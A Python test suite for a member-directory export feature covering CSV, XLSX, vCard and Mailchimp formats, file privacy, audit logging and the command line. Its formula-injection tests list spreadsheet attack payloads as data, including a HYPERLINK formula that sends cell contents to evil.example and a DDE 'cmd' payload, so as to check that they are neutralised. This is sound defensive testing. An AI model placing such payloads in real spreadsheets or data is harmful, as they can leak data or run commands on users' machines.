"""Exports (app/io/export.py and `amicale export`): real files, read back as a user would."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from app.cli import main
from app.errors import AmicaleError, Cancelled
from app.io.export import (
    DEFAULT_COLUMNS,
    EXPORT_HEADERS,
    MAILCHIMP_HEADERS,
    export_members,
    fold_line,
    format_for,
    mailchimp_tags,
    neutralise,
    unneutralise,
    vcard_escape,
)
from app.members.service import MemberDirectory
from app.store import Store
from app.store.cancel import CancelToken
from app.store.schema import audit_event

pytestmark = pytest.mark.engines  # the store on SQLite and on PostgreSQL

NAME_ORDER = ["Ärger", "Dupont", "Dupuis", "Le Goff", "Lefèvre", "Martin"]


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def read_xlsx(path: Path) -> list[list[object]]:
    workbook = load_workbook(path, read_only=True)
    try:
        return [list(row) for row in workbook.active.iter_rows(values_only=True)]
    finally:
        workbook.close()


def unfold(text: str) -> list[str]:
    """The logical lines of a vCard file (RFC 6350 §3.2)."""
    return text.replace("\r\n ", "").split("\r\n")


def vcards(path: Path) -> list[dict[str, list[str]]]:
    cards: list[dict[str, list[str]]] = []
    for line in unfold(path.read_bytes().decode("utf-8")):
        if line == "BEGIN:VCARD":
            cards.append({})
        elif line and line != "END:VCARD":
            name, _, value = line.partition(":")
            cards[-1].setdefault(name, []).append(value)
    return cards


def audit_rows(store: Store) -> list[dict[str, object]]:
    with store.read() as conn:
        rows = conn.execute(
            sa.select(audit_event).where(audit_event.c.action == "export")
        ).mappings()
        return [{**r, "detail": json.loads(r["detail"])} for r in rows]


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_has_bom_english_headers_accents_and_excel_line_ends(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "membres.csv"
    report = export_members(store, target)
    assert (report.path, report.rows, report.format) == (target, 6, "csv")
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 7 and b"\n" not in raw.replace(b"\r\n", b"")
    rows = read_csv(target)
    assert rows[0] == [EXPORT_HEADERS[c] for c in DEFAULT_COLUMNS]
    assert rows[0][:3] == ["First Name", "Last Name", "Email"]
    assert [r[1] for r in rows[1:]] == NAME_ORDER  # the search's name order
    dupont = rows[2]
    assert dupont[:3] == ["Émilie", "Dupont", "emilie.dupont@example.org"]
    record = dict(zip(rows[0], dupont, strict=True))
    assert record["City"] == "Saint-Étienne"
    assert record["Class Year"] == "2005"
    assert record["Birthday"] == "1982-11-26"
    # Tags carry their category so that a re-import files them back where they were.
    assert record["Tags"] == "Géographie/Saint-Étienne, Métier/Chimie"
    assert dict(zip(rows[0], rows[3], strict=True))["Phone"] == "06 12 34 56 78"
    assert [p.name for p in tmp_path.iterdir() if "membres" in p.name] == ["membres.csv"]


def test_csv_for_french_excel_uses_semicolons(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    directory = MemberDirectory(store)
    directory.update(people["Martin"], {"company": "Michelin; pneus, Clermont"})
    target = tmp_path / "excel.csv"
    export_members(store, target, fmt="csv-fr", columns=["last_name", "company", "promo"])
    text = target.read_text("utf-8-sig")
    assert text.splitlines()[0] == "Last Name;Company;Class Year"
    assert 'Martin;"Michelin; pneus, Clermont";2008' in text.splitlines()
    rows = read_csv(target, delimiter=";")
    assert rows[-1] == ["Martin", "Michelin; pneus, Clermont", "2008"]


def test_columns_headers_and_values_of_every_kind(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "all.csv"
    columns = ["last_name", "consent", "dues_last_year", "status", "communities", "tags"]
    headers = ["Nom", "Consentement", "Cotisation", "Statut", "Communautés", "Étiquettes"]
    export_members(store, target, ids=[people["Dupont"]], columns=columns, headers=headers)
    assert read_csv(target) == [headers, ["Dupont", "yes", "2026", "member", "", _dupont_tags()]]
    with pytest.raises(AmicaleError, match="unknown column 'password'"):
        export_members(store, tmp_path / "x.csv", columns=["last_name", "password"])
    with pytest.raises(AmicaleError, match="no column"):
        export_members(store, tmp_path / "x.csv", columns=[])
    assert not (tmp_path / "x.csv").exists()


def _dupont_tags() -> str:
    return "Géographie/Saint-Étienne, Métier/Chimie"


def test_a_selection_keeps_its_order_and_a_query_filters(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "sel.csv"
    ids = [people["Martin"], people["Dupont"], people["Martin"]]
    report = export_members(store, target, ids=ids, columns=["last_name"])
    assert report.rows == 2
    assert read_csv(target) == [["Last Name"], ["Martin"], ["Dupont"]]
    report = export_members(store, target, query="tag:lyon", columns=["last_name"])
    assert read_csv(target) == [["Last Name"], ["Dupuis"], ["Martin"]]
    report = export_members(store, target, query="city:nowhere", columns=["last_name"])
    assert report.rows == 0 and read_csv(target) == [["Last Name"]]


# --- formula injection -------------------------------------------------------------------------

NEUTRALISED = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1+1",
    "+1+1",
    "+33 -1",  # a dash after a space: not a phone number
    "+33 6 12 34 56 78 =A1",
    "-",
    "+",
    " =1",  # some spreadsheets trim leading spaces
    "'=1",  # already quoted: one more quote, so the round trip is exact
    "+33 6/12",  # only + digits spaces dots dashes parentheses make a phone number
]
KEPT = [
    "+33 6 12 34 56 78",
    "+33 (0)6 12 34 56 78",
    "+33-6-12-34-56-78",
    "+33.6.12.34.56.78",
    "06-12-34-56-78",
    "06 12 34 56 78",
    "Émilie",
    "a=b",
    "'quoted'",
    "'",
    "",
    "O'Neil",
]


@pytest.mark.parametrize("text", NEUTRALISED)
def test_formula_looking_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", KEPT)
def test_phone_numbers_and_plain_text_are_kept(text: str) -> None:
    assert neutralise(text) == text
    assert unneutralise(text) == text


@given(st.text(alphabet="=+-@\t\r' 0123456789().aZ|!", max_size=12))
def test_neutralise_is_safe_and_exactly_reversible(text: str) -> None:
    out = neutralise(text)
    assert unneutralise(out) == text
    core = out.lstrip(" ")
    if core and core[0] in "=+-@\t\r":
        # Only a phone-looking value may still start with an operator: + then digits etc.
        assert core[0] == "+" and not any(c in core for c in "=@\t\r|!'aZ")
        assert "+" not in core[1:]


def test_neutralised_cells_in_csv_xlsx_and_mailchimp(store: Store, tmp_path: Path) -> None:
    directory = MemberDirectory(store)
    bad = directory.create(
        {
            "first_name": "@SUM(A1)",
            "last_name": "-2+3",
            "email": "-x@example.org",
            "phone": "+33 6 12 34 56 78",
            "company": '=HYPERLINK("http://evil.example","x")',
            "job_title": "#N/A",
            "consent": True,
        },
        tags=["=1+1"],
    )
    columns = ["first_name", "last_name", "phone", "company", "job_title", "tags"]
    expected = [
        "'@SUM(A1)",
        "'-2+3",
        "+33 6 12 34 56 78",
        '\'=HYPERLINK("http://evil.example","x")',
        "#N/A",
        "'=1+1",
    ]
    export_members(store, tmp_path / "a.csv", ids=[bad], columns=columns)
    assert read_csv(tmp_path / "a.csv")[1] == expected
    export_members(store, tmp_path / "a.xlsx", ids=[bad], columns=columns)
    assert read_xlsx(tmp_path / "a.xlsx")[1] == expected
    workbook = load_workbook(tmp_path / "a.xlsx", read_only=True)
    cells = next(workbook.active.iter_rows(min_row=2, max_row=2))
    assert [c.data_type for c in cells] == ["s"] * 6  # no formula, no error cell
    workbook.close()
    export_members(store, tmp_path / "m.csv", ids=[bad], fmt="mailchimp")
    assert read_csv(tmp_path / "m.csv")[1] == [
        "'-x@example.org",
        "'@SUM(A1)",
        "'-2+3",
        '"=1+1"',  # starts with a double quote: not a formula
    ]


# --- XLSX --------------------------------------------------------------------------------------


def test_xlsx_text_stays_text_and_years_are_numbers(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "membres.xlsx"
    report = export_members(store, target)
    assert (report.rows, report.format) == (6, "xlsx")
    assert mode(target) == 0o600
    rows = read_xlsx(target)
    assert rows[0] == [EXPORT_HEADERS[c] for c in DEFAULT_COLUMNS]
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["Last Name"] for r in records] == NAME_ORDER
    dupont, dupuis = records[1], records[2]
    assert dupont["First Name"] == "Émilie" and dupont["City"] == "Saint-Étienne"
    assert dupont["Class Year"] == 2005 and isinstance(dupont["Class Year"], int)
    assert dupont["Birthday"] == "1982-11-26"  # text, not a date
    assert dupont["Tags"] == _dupont_tags()
    assert dupuis["Phone"] == "06 12 34 56 78"
    assert records[3]["Class Year"] is None  # Le Goff: no class year, an empty cell
    workbook = load_workbook(target, read_only=True)
    sheet = workbook.active
    header = next(sheet.iter_rows(max_row=1))
    assert all(c.font.b for c in header)
    second = next(sheet.iter_rows(min_row=3, max_row=3))  # Dupont
    kinds = {c.column_letter: c.data_type for c in second if c.value is not None}
    assert kinds == {**dict.fromkeys("ABCEHLN", "s"), "K": "n"}
    workbook.close()
    full = load_workbook(target)  # the normal reader: widths and frozen header
    assert full.active.freeze_panes == "A2"
    assert full.active.column_dimensions["C"].width >= len("emilie.dupont@example.org")
    full.close()


def test_xlsx_drops_characters_excel_refuses(store: Store, tmp_path: Path) -> None:
    member = MemberDirectory(store).create({"last_name": "Bell\x07e", "company": "A\x00B"})
    export_members(store, tmp_path / "c.xlsx", ids=[member], columns=["last_name", "company"])
    assert read_xlsx(tmp_path / "c.xlsx")[1] == ["Belle", "AB"]


# --- vCard -------------------------------------------------------------------------------------


def test_vcard_escapes_and_folds(store: Store, people: dict[str, int], tmp_path: Path) -> None:
    directory = MemberDirectory(store)
    long_company = "Société d'études chimiques et énergétiques, Lyon; Saint-Étienne \\ Grenoble"
    directory.update(people["Dupont"], {"company": long_company, "phone": "+33 6 12 34 56 78"})
    target = tmp_path / "contacts.vcf"
    report = export_members(store, target)
    assert (report.rows, report.format) == (6, "vcf")
    raw = target.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    physical = raw.split(b"\r\n")
    assert physical[-1] == b"" and b"\n" not in raw.replace(b"\r\n", b"")
    for line in physical:
        assert len(line) <= 75
        line.decode("utf-8")  # never a character cut in two
    cards = vcards(target)
    assert len(cards) == 6 and all(c["VERSION"] == ["4.0"] for c in cards)
    dupont = cards[NAME_ORDER.index("Dupont")]
    assert dupont["FN"] == ["Émilie Dupont"]
    assert dupont["N"] == ["Dupont;Émilie;;;"]
    assert dupont["EMAIL"] == ["emilie.dupont@example.org"]
    assert dupont["TEL"] == ["+33 6 12 34 56 78"]  # not neutralised: not a spreadsheet
    assert dupont["ORG"] == [
        "Société d'études chimiques et énergétiques\\, Lyon\\; Saint-Étienne \\\\ Grenoble"
    ]
    assert dupont["ADR"] == [";;;Saint-Étienne;;;"]
    assert dupont["BDAY"] == ["19821126"]
    assert dupont["NOTE"] == ["promo 2005"]
    assert dupont["CATEGORIES"] == ["Géographie/Saint-Étienne,Métier/Chimie"]
    martin = cards[NAME_ORDER.index("Martin")]
    assert martin["URL"] == ["https://www.linkedin.com/in/helene-martin"]
    assert "EMAIL" not in cards[NAME_ORDER.index("Dupuis")]


def test_vcard_escape_and_fold_rules() -> None:
    assert vcard_escape("a,b;c\\d\ne\r\nf") == "a\\,b\\;c\\\\d\\ne\\nf"
    line = "NOTE:" + "é" * 80
    folded = fold_line(line)
    parts = folded.encode("utf-8").split(b"\r\n")
    assert parts[-1] == b""
    assert all(len(p) <= 75 for p in parts)
    assert all(p.startswith(b" ") for p in parts[1:-1])
    assert folded.replace("\r\n ", "") == line + "\r\n"
    assert fold_line("FN:x") == "FN:x\r\n"


# --- Mailchimp ---------------------------------------------------------------------------------


def test_mailchimp_has_its_four_columns_and_only_consenting_emails(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "audience.csv"
    report = export_members(store, target, fmt="mailchimp")
    assert (report.rows, report.format) == (2, "mailchimp")
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(target)
    assert (
        tuple(rows[0]) == MAILCHIMP_HEADERS == ("Email Address", "First Name", "Last Name", "TAGS")
    )
    # Zoé (no consent) and Dupuis/Le Goff (no email) are left out.
    assert [r[:3] for r in rows[1:]] == [
        ["emilie.dupont@example.org", "Émilie", "Dupont"],
        ["francois@example.org", "François", "Lefèvre"],
    ]
    tags = rows[1][3]
    assert tags == '"Géographie/Saint-Étienne","Métier/Chimie"'
    assert next(csv.reader(io.StringIO(tags))) == ["Géographie/Saint-Étienne", "Métier/Chimie"]
    assert rows[2][3] == ""
    assert mailchimp_tags(['say "hi"', "b"]) == '"say ""hi""","b"'


# --- the file: atomic, private, logged ---------------------------------------------------------


def test_export_replaces_a_file_atomically_keeps_it_private_and_is_logged(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")
    target.chmod(0o644)
    export_members(store, target, query="tag:lyon")
    assert mode(target) == 0o600
    assert read_csv(target)[1][1] == "Dupuis"
    export_members(store, tmp_path / "sel.xlsx", ids=[people["Martin"], people["Dupont"]])
    logged = audit_rows(store)
    assert [r["detail"] for r in logged] == [
        {"query": "tag:lyon", "rows": 2, "format": "csv", "file": "out.csv"},
        {"query": None, "ids": 2, "rows": 2, "format": "xlsx", "file": "sel.xlsx"},
    ]
    assert all(r["entity"] == "member" and r["entity_id"] is None for r in logged)


def test_an_export_that_cannot_be_logged_leaves_no_file(
    store: Store, people: dict[str, int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.io import export

    def broken(*_args: object, **_kwargs: object) -> None:
        raise AmicaleError("the log is full")

    monkeypatch.setattr(export.audit, "record", broken)
    with pytest.raises(AmicaleError, match="the log is full"):
        export_members(store, tmp_path / "out.csv")
    assert not [p for p in tmp_path.iterdir() if "out.csv" in p.name]


@pytest.mark.sqlite_only  # import / demo on a server: refused for now (issue 11)
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcf", "mailchimp"])
def test_cancel_leaves_no_file_and_keeps_the_old_one(
    store: Store, tmp_path: Path, fmt: str
) -> None:
    from app.demo import build_demo

    build_demo(store, members=4500, seed=3)
    target = tmp_path / f"out.{'xlsx' if fmt == 'xlsx' else 'vcf' if fmt == 'vcf' else 'csv'}"
    target.write_text("precious")
    before = sorted(os.listdir(tmp_path))
    calls: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        calls.append((done, total))
        if done >= 2000:
            raise Cancelled()

    scratch = len(ALL_TEMP_FILES)  # openpyxl's own temporary files
    with pytest.raises(Cancelled):
        export_members(store, target, fmt=fmt, progress=progress)
    assert len(ALL_TEMP_FILES) == scratch
    assert calls[:2] == [(0, 4500), (2000, 4500)]
    assert target.read_text() == "precious"
    assert sorted(os.listdir(tmp_path)) == before  # no temporary file left behind
    assert audit_rows(store) == []

    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        export_members(store, target, fmt=fmt, cancel=token)
    assert sorted(os.listdir(tmp_path)) == before


@pytest.mark.sqlite_only  # import / demo on a server: refused for now (issue 11)
def test_chunks_follow_the_search_order(store: Store, tmp_path: Path) -> None:
    from app.demo import build_demo

    build_demo(store, members=4500, seed=5)
    directory = MemberDirectory(store)
    ids = directory.search_ids("")
    progress: list[tuple[int, int]] = []
    report = export_members(
        store,
        tmp_path / "all.csv",
        columns=["email"],
        progress=lambda d, t: progress.append((d, t)),
    )
    assert report.rows == 4500
    assert progress == [(0, 4500), (2000, 4500), (4000, 4500), (4500, 4500)]
    emails = [r[0] for r in read_csv(tmp_path / "all.csv")[1:]]
    expected = directory.fetch_rows(ids, ["email"])
    assert emails == [expected[i][0] or "" for i in ids]


def test_format_from_the_extension_or_given(tmp_path: Path) -> None:
    assert format_for(Path("a.CSV"), None) == "csv"
    assert format_for(Path("a.xlsx"), None) == "xlsx"
    assert format_for(Path("a.vcf"), None) == "vcf"
    assert format_for(Path("a.csv"), "mailchimp") == "mailchimp"
    assert format_for(Path("a.txt"), "csv-fr") == "csv-fr"
    with pytest.raises(AmicaleError, match="cannot tell the export format"):
        format_for(Path("a.txt"), None)
    with pytest.raises(AmicaleError, match="unknown export format 'pdf'"):
        format_for(Path("a.csv"), "pdf")


def test_unwritable_targets_are_explained(
    store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    with pytest.raises(AmicaleError, match="cannot write"):
        export_members(store, tmp_path / "missing" / "out.csv")
    with pytest.raises(AmicaleError, match="is a folder"):
        export_members(store, tmp_path, fmt="csv")
    with pytest.raises(AmicaleError, match="character 7"):
        export_members(store, tmp_path / "q.csv", query="promo:abc")
    assert not (tmp_path / "q.csv").exists()


# --- command line ------------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    try:
        code = main(list(argv))
    except SystemExit as exc:  # argparse's usage errors
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_export_prints_the_count_last(
    capsys: pytest.CaptureFixture[str], store: Store, people: dict[str, int], tmp_path: Path
) -> None:
    db = store.address
    target = tmp_path / "out.csv"
    code, out, err = run(capsys, "--db", db, "export", "-o", str(target))
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[-1] == "6"
    assert lines[0] == f"export: 6 members → {target}"
    assert len(read_csv(target)) == 7

    code, out, _ = run(capsys, "--db", db, "export", "tag:lyon", "-o", str(tmp_path / "l.xlsx"))
    assert (code, out.splitlines()[-1]) == (0, "2")
    assert [r[1] for r in read_xlsx(tmp_path / "l.xlsx")[1:]] == ["Dupuis", "Martin"]

    code, out, _ = run(
        capsys, "--db", db, "export", "-o", str(tmp_path / "n.csv"), "--", "-tag:lyon"
    )
    assert (code, out.splitlines()[-1]) == (0, "4")

    target = tmp_path / "m.csv"
    code, out, _ = run(capsys, "--db", db, "export", "-o", str(target), "--format", "mailchimp")
    assert (code, out.splitlines()[-1]) == (0, "2")
    assert tuple(read_csv(target)[0]) == MAILCHIMP_HEADERS

    target = tmp_path / "c.txt"
    code, out, _ = run(
        capsys, "--db", db, "export", "-o", str(target), "--format", "csv-fr",
        "--columns", "last_name, email",
    )  # fmt: skip
    assert (code, out.splitlines()[-1]) == (0, "6")
    assert read_csv(target, ";")[0] == ["Last Name", "Email"]

    code, out, _ = run(capsys, "--db", db, "export", "-o", str(tmp_path / "c.vcf"))
    assert (code, out.splitlines()[-1]) == (0, "6")
    assert len(vcards(tmp_path / "c.vcf")) == 6
    assert len(audit_rows(store)) == 6


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-o", "{tmp}/out.txt"], "cannot tell the export format"),
        (["-o", "{tmp}/missing/out.csv"], "cannot write"),
        (["-o", "{tmp}/out.csv", "--columns", "nope"], "unknown column 'nope'"),
        (["promo:abc", "-o", "{tmp}/out.csv"], "character 7"),
    ],
)
def test_cli_export_errors_are_one_line(
    capsys: pytest.CaptureFixture[str],
    store: Store,
    people: dict[str, int],
    tmp_path: Path,
    args: list[str],
    message: str,
) -> None:
    argv = [a.replace("{tmp}", str(tmp_path)) for a in args]
    code, out, err = run(capsys, "--db", store.address, "export", *argv)
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and message in err and "Traceback" not in err
    assert not any(p.suffix in (".csv", ".txt", ".part") for p in tmp_path.iterdir())


def test_cli_export_usage_errors(
    capsys: pytest.CaptureFixture[str], store: Store, tmp_path: Path
) -> None:
    code, _, err = run(capsys, "--db", store.address, "export", "-o", "x.csv", "--format", "pdf")
    assert code == 2 and "invalid choice" in err
    code, _, err = run(capsys, "--db", store.address, "export", "tag:lyon")
    assert code == 2 and "-o" in err
